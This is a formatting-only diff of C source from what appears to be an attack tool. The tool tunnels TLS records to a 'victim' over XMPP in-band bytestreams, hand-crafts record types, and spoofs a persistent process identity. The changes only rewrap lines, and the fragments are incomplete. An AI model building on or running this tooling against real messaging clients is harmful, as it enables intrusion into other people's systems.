@@ -85,7 +85,9 @@ void raw_open(struct raw_link *l, struct who *who, const struct device_key *key,
 {
 	static unsigned number;
 
-	*l = (struct raw_link){ .events = events, .owner = owner, .who = who, .key = key, .fd = -1 };
+	*l = (struct raw_link){
+		.events = events, .owner = owner, .who = who, .key = key, .fd = -1
+	};
 	l->tls = tls_create(key, true, use, &l->cipher);
 	if (port) {
 		l->fd = attack_dial(port);
@@ -94,8 +96,10 @@ void raw_open(struct raw_link *l, struct who *who, const struct device_key *key,
 		return;
 	}
 	snprintf(l->sid, sizeof(l->sid), "%08x", 0xa0000000u + ++number);
-	buf_printf(&who->stream->out, "<iq type='set' id='o%s' from='%s' to='%s'><open xmlns='" NS_IBB "' sid='%s' "
-		   "block-size='5700' stanza='iq'/></iq>", l->sid, who->full, who->attack->victim, l->sid);
+	buf_printf(&who->stream->out,
+		   "<iq type='set' id='o%s' from='%s' to='%s'><open xmlns='" NS_IBB "' sid='%s' "
+		   "block-size='5700' stanza='iq'/></iq>",
+		   l->sid, who->full, who->attack->victim, l->sid);
 }
 
 size_t raw_unsent(const struct raw_link *l)
@@ -104,7 +108,8 @@ size_t raw_unsent(const struct raw_link *l)
 }
 
 /* By hand, so that types may be said that there are not. */
-static void write_record(struct raw_link *l, enum record_type type, uint64_t number, const void *payload, size_t n)
+static void write_record(struct raw_link *l, enum record_type type, uint64_t number,
+			 const void *payload, size_t n)
 {
 	uint8_t header[RECORD_HEADER];
 	struct buf bytes = { 0 };
@@ -123,7 +128,10 @@ void raw_say(struct raw_link *l, enum record_type type, const void *payload, siz
 		write_record(l, type, ++l->sent, payload, n);
 }
 
-/* Always the same process, as far as the victim knows: it has lost the link, and not what ran on it. */
+/*
+ * Always the same process, as far as the victim knows: it has lost the link,
+ * and not what ran on it.
+ */
 static void say_hello(struct raw_link *l)
 {
 	static const uint8_t instance[INSTANCE_BYTES] = { 1 };
@@ -145,7 +153,8 @@ static void say_hello(struct raw_link *l)
 static void take_hello(struct raw_link *l, const struct record *record)
 {
 	struct fields f = { (const char *)record->payload, record->len };
-	const char *state = record->type == RECORD_HELLO && fields_valid(f) ? fields_get(f, "state") : NULL;
+	const char *state =
+		record->type == RECORD_HELLO && fields_valid(f) ? fields_get(f, "state") : NULL;
 
 	if (state && !strcmp(state, "new")) {
 		l->state = RAW_UP;
@@ -217,7 +226,8 @@ static void take_cipher(struct raw_link *l, const void *data, size_t n)
 	}
 	if (tls_established(l->tls) && !was_there)
 		say_hello(l);
-	while (l->state != RAW_OVER && (size = record_parse(buf_data(&l->plain), buf_len(&l->plain), &record)) > 0) {
+	while (l->state != RAW_OVER &&
+	       (size = record_parse(buf_data(&l->plain), buf_len(&l->plain), &record)) > 0) {
 		take_record(l, &record);
 		if (l->state != RAW_OVER)
 			buf_consume(&l->plain, (size_t)size);
@@ -229,7 +239,9 @@ static void take_data(struct raw_link *l, const char *stanza)
 {
 	const char *text = strchr(strstr(stanza, "<data"), '>') + 1, *end = strchr(text, '<');
 	char *bytes = xmalloc(BLOCK_TEXT_MAX);
-	long n = end && end - text <= BLOCK_TEXT_MAX ? base64_decode(text, (size_t)(end - text), bytes) : -1;
+	long n = end && end - text <= BLOCK_TEXT_MAX
+			 ? base64_decode(text, (size_t)(end - text), bytes)
+			 : -1;
 
 	if (n > 0)
 		take_cipher(l, bytes, (size_t)n);
@@ -238,8 +250,8 @@ static void take_data(struct raw_link *l, const char *stanza)
 
 static void answer(struct raw_link *l, const char *id)
 {
-	buf_printf(&l->who->stream->out, "<iq type='result' id='%s' from='%s' to='%s'/>", id, l->who->full,
-		   l->who->attack->victim);
+	buf_printf(&l->who->stream->out, "<iq type='result' id='%s' from='%s' to='%s'/>", id,
+		   l->who->full, l->who->attack->victim);
 }
 
 static void take_answer(struct raw_link *l, const char *id, bool error)
@@ -257,7 +269,8 @@ void raw_take(struct raw_link *l, const char *stanza)
 	char id[80], type[16], sid[20];
 
 	if (strncmp(stanza, "<iq", 3) || l->state == RAW_OVER || l->fd >= 0 ||
-	    !stanza_attribute(stanza, "id", id, sizeof(id)) || !stanza_attribute(stanza, "type", type, sizeof(type)))
+	    !stanza_attribute(stanza, "id", id, sizeof(id)) ||
+	    !stanza_attribute(stanza, "type", type, sizeof(type)))
 		return;
 	if (!strcmp(type, "result") || !strcmp(type, "error")) {
 		if (strlen(id) > 8 && !strncmp(id + 1, l->sid, strlen(l->sid)))
@@ -283,9 +296,11 @@ static void write_blocks(struct raw_link *l)
 
 		base64_encode(buf_data(&l->cipher), n, text);
 		buf_consume(&l->cipher, n);
-		buf_printf(&l->who->stream->out, "<iq type='set' id='d%s.%u' from='%s' to='%s'><data xmlns='" NS_IBB "' "
-			   "sid='%s' seq='%u'>%s</data></iq>", l->sid, l->seq, l->who->full,
-			   l->who->attack->victim, l->sid, l->seq, text);
+		buf_printf(&l->who->stream->out,
+			   "<iq type='set' id='d%s.%u' from='%s' to='%s'><data xmlns='" NS_IBB "' "
+			   "sid='%s' seq='%u'>%s</data></iq>",
+			   l->sid, l->seq, l->who->full, l->who->attack->victim, l->sid, l->seq,
+			   text);
 		l->seq = (l->seq + 1) & UINT16_MAX;
 		l->in_flight++;
 	}
@@ -296,7 +311,8 @@ static void move_tcp(struct raw_link *l)
 	char bytes[16384];
 	ssize_t n = 0;
 
-	while (buf_len(&l->cipher) && (n = write(l->fd, buf_data(&l->cipher), buf_len(&l->cipher))) > 0)
+	while (buf_len(&l->cipher) &&
+	       (n = write(l->fd, buf_data(&l->cipher), buf_len(&l->cipher))) > 0)
 		buf_consume(&l->cipher, (size_t)n);
 	while (l->fd >= 0 && (n = read(l->fd, bytes, sizeof(bytes))) > 0)
 		take_cipher(l, bytes, (size_t)n);
